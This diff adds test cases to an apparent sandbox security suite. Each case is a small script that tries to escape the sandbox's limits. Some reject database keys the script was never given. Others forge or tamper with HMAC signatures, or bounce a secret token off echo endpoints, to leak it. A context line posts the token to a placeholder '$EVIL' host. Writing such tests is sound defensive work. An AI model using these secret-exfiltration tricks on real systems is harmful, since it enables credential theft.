@@ -85,6 +85,13 @@ export const databaseAttacks: readonly Attack[] = [
     escape: ({ rows }, id) =>
       JSON.stringify(rows(`attacks.${id}`)).includes("4711") ? "the key was stored" : undefined,
   },
+  {
+    name: "rejects a key that was not delivered",
+    header: ["// @kind: tracked", "// @unique_key: id"],
+    source: `import { query, reject } from "spoor";
+      for await (const row of query("SELECT id, word FROM victim.readable")) await reject({ id: 4711 }, "PWNED-$ID");`,
+    says: /Cannot reject id = 4711/,
+  },
 ];
 
 const ALLOWS = "// @allow_net: $ALLOWEDHOST";
@@ -164,6 +171,32 @@ export const secretAttacks: readonly Attack[] = [
     header: [ALLOWS, MINE],
     source: `import { http, secret } from "spoor";
       await http.post("$EVIL/$ID", { json: { token: secret("MINE_TOKEN") }, retries: 0 });`,
+  },
+  {
+    name: "signs with a secret that it does not list",
+    header: [ALLOWS, MINE],
+    source: `import { hmac, http, secret } from "spoor";
+      const other = String(secret("MINE_TOKEN")).replaceAll("MINE_TOKEN", "OTHER_TOKEN");
+      await http.post("$ALLOWED/plain/$ID", { json: { sig: hmac(other, "x") } });`,
+    says: /not a secret of this model/,
+  },
+  {
+    name: "makes what hmac gives send the secret instead of a signature",
+    header: [ALLOWS, MINE],
+    source: `import { hmac, http, secret } from "spoor"; import { leak } from "../_lib/leak.ts";
+      const whole = hmac(secret("MINE_TOKEN"), "x");
+      for (const sig of [whole.slice(0, -1), whole.replace("sha256", "none"), whole.replace("hex", "raw"), whole.replace(/[.]hex.*/, "")]) {
+        try { await leak((await http.post("$ALLOWED/echo", { body: sig })).text); } catch (error) { await leak(String(error)); }
+      }
+      throw new Error("nothing came of it");`,
+  },
+  {
+    name: "saves a signature that the server echoes",
+    header: [ALLOWS, MINE],
+    source: `import { hmac, http, secret } from "spoor"; import { leak } from "../_lib/leak.ts";
+      const sig = hmac(secret("MINE_TOKEN"), "x") + hmac(secret("MINE_TOKEN"), String(secret("MINE_TOKEN")), { encoding: "base64" });
+      await leak((await http.get("$ALLOWED/echo", { headers: { Authorization: "Bearer " + sig } })).text);`,
+    ends: "any",
   },
   {
     name: "reads its secret as a variable",
